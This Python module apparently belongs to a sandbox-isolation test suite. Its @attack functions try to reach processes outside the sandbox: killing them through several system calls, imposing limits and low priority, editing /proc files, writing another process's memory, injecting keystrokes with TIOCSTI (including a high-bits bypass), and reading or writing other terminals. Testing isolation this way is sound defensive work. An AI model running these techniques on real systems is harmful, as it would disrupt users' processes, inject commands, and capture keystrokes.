"""Harming processes outside: signals, limits, priorities, and the terminal they listen to."""

from __future__ import annotations

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import termios
from typing import TYPE_CHECKING

from common import attack, each, libc, syscall, write

if TYPE_CHECKING:
    from common import World

_F_SETSIG = 10
_F_SETOWN_EX = 15


@attack
def kill_outside(world: World) -> object:
    """End a process outside by kill."""
    return each(lambda: os.kill(world.outside_process(), signal.SIGKILL))


@attack
def kill_by_thread(world: World) -> object:
    """The same by the calls for threads and with values (tgkill(2), rt_sigqueueinfo(2))."""
    process = world.outside_process()
    information = struct.pack("=iii4xii", signal.SIGTERM, 0, -1, os.getpid(), os.getuid()).ljust(128, b"\0")
    return each(
        lambda: syscall("tgkill", process, process, signal.SIGTERM),
        lambda: syscall("rt_sigqueueinfo", process, signal.SIGTERM, information),
    )


@attack
def kill_by_descriptor(world: World) -> object:
    """The same by a descriptor of the process (pidfd_send_signal(2))."""
    fd = syscall("pidfd_open", world.outside_process(), 0)
    return syscall("pidfd_send_signal", fd, signal.SIGTERM, 0, 0)


@attack
def kill_group(world: World) -> object:
    """The same by its process group."""
    return each(lambda: os.kill(-os.getpgid(world.outside_process()), signal.SIGTERM))


@attack
def kill_by_file(world: World) -> object:
    """Have the kernel send the signal when a socket of ours gets data (fcntl(2): F_SETOWN)."""
    process = world.outside_process()

    def by(set_owner: object) -> str:
        one, other = socket.socketpair()
        with one, other:
            set_owner(one.fileno())
            fcntl.fcntl(one.fileno(), _F_SETSIG, signal.SIGTERM)
            flags = fcntl.fcntl(one.fileno(), fcntl.F_GETFL)
            fcntl.fcntl(one.fileno(), fcntl.F_SETFL, flags | os.O_ASYNC)
            other.send(b"now")
            return "asked for it"

    return each(
        lambda: by(lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, process)),
        lambda: by(lambda fd: fcntl.fcntl(fd, _F_SETOWN_EX, struct.pack("=ii", 1, process))),
    )


@attack
def limits_outside(world: World) -> object:
    """Give a process outside limits under which it can't go on (prlimit(2))."""
    process = world.outside_process()
    return each(
        lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (1, 1)),
        lambda: resource.prlimit(process, resource.RLIMIT_FSIZE, (0, 0)),
    )


@attack
def priority_outside(world: World) -> object:
    """Have a process outside run last (setpriority(2), sched(7), ioprio_set(2))."""
    process = world.outside_process()
    attributes = struct.pack("=IIQiIQQQ", 48, 5, 0, 0, 0, 0, 0, 0)  # SCHED_IDLE
    return each(
        lambda: os.setpriority(os.PRIO_PROCESS, process, 15),
        lambda: os.sched_setscheduler(process, os.SCHED_BATCH, os.sched_param(0)),
        lambda: syscall("sched_setattr", process, attributes, 0),
        lambda: syscall("ioprio_set", 1, process, 3 << 13),
    )


@attack
def affinity_outside(world: World) -> object:
    """Have a process outside run on one processor only (sched_setaffinity(2))."""
    return os.sched_setaffinity(world.outside_process(), {max(os.sched_getaffinity(0))})


@attack
def files_of_process(world: World) -> object:
    """Change what can be changed of a process outside by its files in /proc."""
    process = world.outside_process()
    return each(
        *(
            lambda name=name, text=text: write(f"/proc/{process}/{name}", text)
            for name, text in (
                ("oom_score_adj", b"1000"),
                ("coredump_filter", b"0x1"),
                ("comm", b"taken"),
                ("timerslack_ns", b"1000000"),
                ("clear_refs", b"1"),
            )
        )
    )


@attack
def write_memory(world: World) -> object:
    """Write the memory of a process outside: where it keeps a word that it shows on demand."""
    process, address = world.canary["pid"], world.canary["writable"]
    held = ctypes.create_string_buffer(world.token)
    local = struct.pack("=QQ", ctypes.addressof(held), len(world.token))
    remote = struct.pack("=QQ", address, len(world.token))

    def by_file() -> int:
        fd = os.open(f"/proc/{process}/mem", os.O_RDWR)
        try:
            return os.pwrite(fd, world.token, address)
        finally:
            os.close(fd)

    return each(by_file, lambda: syscall("process_vm_writev", process, local, 1, remote, 1, 0))


@attack
def tiocsti(world: World) -> object:
    """Type a command into the terminal (ioctl_tty(2): TIOCSTI), for the shell that reads next."""
    return _type(world, termios.TIOCSTI)


@attack
def tiocsti_hibits(world: World) -> object:
    """The same with bits above the 32 that the kernel looks at."""
    return _type(world, termios.TIOCSTI | 1 << 32)


def _type(world: World, request: int) -> list[str]:
    def into(fd: int) -> str:
        for byte in world.token:
            held = ctypes.create_string_buffer(bytes([byte]))
            libc("ioctl", fd, request, held)
        return "typed"

    def into_terminal() -> str:
        fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
        try:
            return into(fd)
        finally:
            os.close(fd)

    def into_own() -> str:
        os.setsid()
        fd = os.open(world.terminal, os.O_RDWR)
        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
        return into(fd)

    ways = [into_terminal, into_own] if request >> 32 == 0 else [into_terminal]
    return each(lambda: into(0), lambda: into(1), lambda: into(2), *ways)


@attack
def terminal_device(world: World) -> object:
    """Open the terminal's device by its name and read what is typed there, or write to it."""
    return each(
        lambda: write(world.terminal, world.token, os.O_RDWR | os.O_NOCTTY),
        lambda: write(f"/proc/{world.starter}/fd/0", world.token, os.O_RDWR | os.O_NOCTTY),
    )


@attack
def other_terminal(world: World) -> object:
    """Write to another terminal of the user's."""
    return write(world.other_terminal, world.token, os.O_RDWR | os.O_NOCTTY)


@attack
def read_keystrokes(world: World) -> object:
    """Read what is typed into another terminal of the user's."""
    fd = os.open(world.other_terminal, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        return os.read(fd, 4096).decode("latin-1")
    finally:
        os.close(fd)
